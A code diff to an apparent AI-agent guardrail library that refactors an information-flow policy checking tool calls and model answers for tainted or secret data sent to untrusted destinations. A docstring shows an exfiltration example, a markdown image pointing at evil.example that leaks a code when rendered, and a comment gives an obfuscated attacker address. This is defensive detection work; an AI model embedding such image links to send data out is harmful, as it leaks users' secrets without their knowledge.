@@ -26,8 +26,10 @@ import fnmatch
 import itertools
 import re
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
+from typing import Any
 
 from goalrail.policies.arguments import argument_values, leaf_strings
+from goalrail.policies.builtins._answers import answer_images
 from goalrail.policies.declare import Param, builtin, registry_entries
 from goalrail.policies.listens import listens_to
 from goalrail.policies.provenance import (
@@ -173,46 +175,49 @@ def information_flow(
         grounded = kind == "text" and prov.grounded_words(value) and not _spells_destination(value)
         return None if grounded else value
 
-    def policy(event: PolicyEvent) -> PolicyResponse | None:
-        if event["type"] == "response" or event["type"] == "llm_response":
-            return _answer(event, bad, verdict, require_taint)
-        if event["type"] != "tool_call":
-            return None
-        ctx = event["context"]
-        action = ctx.get("action") or {}
-        name = action.get("original") or event.get("target") or "?"
+    def call(prov: Provenance, tainted: bool, target: object, args: object, action: Mapping[str, Any]) -> list[str]:
+        """What is wrong with one tool call: a reason naming the tool, or none."""
+        name = str(action.get("original") or target or "?")
         if only is not None and not any(rx.match(name) or rx.match(action.get("tool") or "") for rx in only):
-            return None
-        data = event.get("data")
-        args = data.get("arguments") if isinstance(data, Mapping) else None
-        if not isinstance(args, Mapping) or not args:
-            return None
-        prov: Provenance = ctx.get("provenance") or EMPTY
-        check = not require_taint or prov.tainted or UNTRUSTED_LABEL in (ctx.get("labels") or {})
-        if not check and not (secrecy and prov.sensitive_seen):
-            return None
+            return []
+        if not isinstance(args, Mapping) or not args or not (tainted or (secrecy and prov.sensitive_seen)):
+            return []
         sinks, content = action.get("sinks") or [], action.get("content") or []
         others = _undeclared(args, [*sinks, *content])
         if not sinks and not content and not others:
-            return None
+            return []
         problems: list[str] = []
         sink_values = list(_texts(args, sinks))
         destinations = [value for _, value in sink_values]
-        if check:
+        kinds = _READ_KINDS if action.get("kind") == "read" else _WRITE_KINDS
+        if tainted:
             problems += [_explain(prov, path, b) for path, value in sink_values if (b := bad(prov, value)) is not None]
             if check_content:  # integrity: what the content links to
                 problems += _ungrounded_links(prov, bad, _texts(args, content), _CONTENT_KINDS)
-        kinds = _READ_KINDS if action.get("kind") == "read" else _WRITE_KINDS
-        if check:
             problems += _ungrounded_links(prov, bad, others, kinds)
         if secrecy and prov.sensitive_seen:
             destinations += [value for _, text in others for _, value in _links(text, kinds)]
             if any(not allow.covers(d) for d in destinations):
                 problems += _secrets(prov, [*_texts(args, content), *others])
-        if not problems:
+        return _summed(name, problems)
+
+    def policy(event: PolicyEvent) -> PolicyResponse | None:
+        etype = event["type"]
+        if etype != "tool_call" and etype != "response" and etype != "llm_response":
             return None
-        extra = f" (and {len(problems) - _MAX_REPORTED} more)" if len(problems) > _MAX_REPORTED else ""
-        return {"result": verdict, "reason": f"{name}: " + "; ".join(problems[:_MAX_REPORTED]) + extra}
+        ctx = event["context"]
+        prov: Provenance = ctx.get("provenance") or EMPTY
+        tainted = not require_taint or prov.tainted or UNTRUSTED_LABEL in (ctx.get("labels") or {})
+        if etype == "tool_call":
+            data = event.get("data")
+            args = data.get("arguments") if isinstance(data, Mapping) else None
+            found = call(prov, tainted, event.get("target"), args, ctx.get("action") or {})
+        else:  # an answer: the images it shows, and (a model's) the tool calls it makes
+            images = _answer(event, bad) if tainted else []
+            found = ["answer: " + "; ".join(images[:_MAX_REPORTED])] if images else []
+            for made in ctx.get("calls") or () if etype == "llm_response" else ():
+                found += call(prov, tainted, made["name"], made["arguments"], made["action"])
+        return {"result": verdict, "reason": "; ".join(found[:_MAX_REPORTED])} if found else None
 
     return policy
 
@@ -224,6 +229,13 @@ _WRITE_KINDS = ("email", "url", "iban", "domain")
 _READ_KINDS = ("url", "domain")
 #: Every link, address, domain, IBAN and phone number holds one (``bob [at] evil [dot] example`` a spelled ``at``).
 _MAY_LINK = re.compile(r"[@.\d%:&]|\bat\b", re.IGNORECASE)
+
+
+def _summed(name: str, problems: list[str]) -> list[str]:
+    if not problems:
+        return []
+    extra = f" (and {len(problems) - _MAX_REPORTED} more)" if len(problems) > _MAX_REPORTED else ""
+    return [f"{name}: " + "; ".join(problems[:_MAX_REPORTED]) + extra]
 
 
 def _texts(args: Mapping[str, object], paths: Iterable[str]) -> Iterator[tuple[str, str]]:
@@ -286,90 +298,15 @@ def _carried(link: str, key: str) -> Iterator[str]:
                 yield value
 
 
-#: What a chat client fetches by itself when it shows an answer: markdown images (inline and by reference),
-#: HTML ``src`` attributes and CSS ``url(…)``.
-_FETCHED = re.compile(
-    r"!\[[^\]]*\]\(\s*<?([^\s)>]+)|!\[[^\]]*\]\[([^\]]*)\]|\bsrc\s*=\s*[\"']?([^\"'\s>]+)|\burl\(\s*[\"']?([^\"')\s]+)",
-    re.IGNORECASE,
-)
-_INERT_IMAGE = re.compile(r"data:image/(?:png|gif|jpe?g|webp|bmp|avif)[;,]", re.IGNORECASE)
-
-
-def _answer(
-    event: PolicyEvent, bad: Callable[[Provenance, str], str | None], verdict: Verdict, require_taint: bool
-) -> PolicyResponse | None:
+def _answer(event: PolicyEvent, bad: Callable[[Provenance, str], str | None]) -> list[str]:
     """The agent's answer: an image it shows is fetched when the answer is rendered, so its link is a
     destination (``![](https://evil.example/p.png?c=<code>)`` leaks the code without a click)."""
-    ctx = event["context"]
-    prov: Provenance = ctx.get("provenance") or EMPTY
-    if require_taint and not prov.tainted and UNTRUSTED_LABEL not in (ctx.get("labels") or {}):
-        return None
-    data = event.get("data")
-    if event["type"] == "llm_response":  # the model's answer as the LLM proxy (or a harness) posts it
-        texts = list(_model_texts(data))
-    else:
-        texts = [data] if isinstance(data, str) else _strings(data)
+    prov: Provenance = event["context"].get("provenance") or EMPTY
     problems: list[str] = []
-    for text in texts:
-        if "!" not in text and "src" not in text.lower() and "url(" not in text.lower():
-            continue
-        for link in _fetched(text):
-            if _INERT_IMAGE.match(link) or not _names_host(link):
-                continue  # (`![](diagram.png)`: the client's own origin)
-            if (b := bad(prov, link)) is not None:
-                problems.append(_explain(prov, "answer", b, inside=True).replace("link", "image", 1))
-    if not problems:
-        return None
-    return {"result": verdict, "reason": "answer: " + "; ".join(problems[:_MAX_REPORTED])}
-
-
-def _model_texts(data: object) -> Iterator[str]:
-    """The text of an ``llm_response``: ``text`` (the LLM proxy's), OpenAI's ``choices[].message.content``
-    (a string or text parts) and Anthropic's ``content`` text blocks; never tool calls or usage."""
-    if isinstance(data, str):
-        yield data
-        return
-    if not isinstance(data, Mapping):
-        return
-    if isinstance(data.get("text"), str):
-        yield data["text"]
-    yield from _content_texts(data.get("content"))
-    choices = data.get("choices")
-    for choice in choices if isinstance(choices, list) else ():
-        message = choice.get("message") or choice.get("delta") if isinstance(choice, Mapping) else None
-        if isinstance(message, Mapping):
-            yield from _content_texts(message.get("content"))
-
-
-def _content_texts(content: object) -> Iterator[str]:
-    """A message's content: a string, or parts (``{"type": "text", "text": …}``, ``output_text``) or strings."""
-    if isinstance(content, str):
-        yield content
-    elif isinstance(content, list):
-        for part in content:
-            if isinstance(part, str):
-                yield part
-            elif isinstance(part, Mapping) and isinstance(part.get("text"), str):
-                yield part["text"]
-
-
-_REFERENCE = re.compile(r"^\s*\[([^\]]+)\]:\s*<?([^\s>]+)", re.MULTILINE)
-
-
-def _fetched(text: str) -> Iterator[str]:
-    refs: dict[str, str] | None = None
-    for m in _FETCHED.finditer(text):
-        link = m.group(1) or m.group(3) or m.group(4)
-        if m.group(2) is not None:  # `![x][ref]` with `[ref]: https://…` somewhere in the answer
-            if refs is None:
-                refs = {r[1].strip().lower(): r[2] for r in _REFERENCE.finditer(text)}
-            link = refs.get(m.group(2).strip().lower())
-        if link:
-            yield link
-
-
-def _names_host(link: str) -> bool:
-    return any(kind in ("url", "domain") for kind, _ in extract_values(link, words=False))
+    for link in answer_images(event["type"], event.get("data")):
+        if (b := bad(prov, link)) is not None:
+            problems.append(_explain(prov, "answer", b, inside=True).replace("link", "image", 1))
+    return problems
 
 
 def _spells_destination(value: str) -> bool:
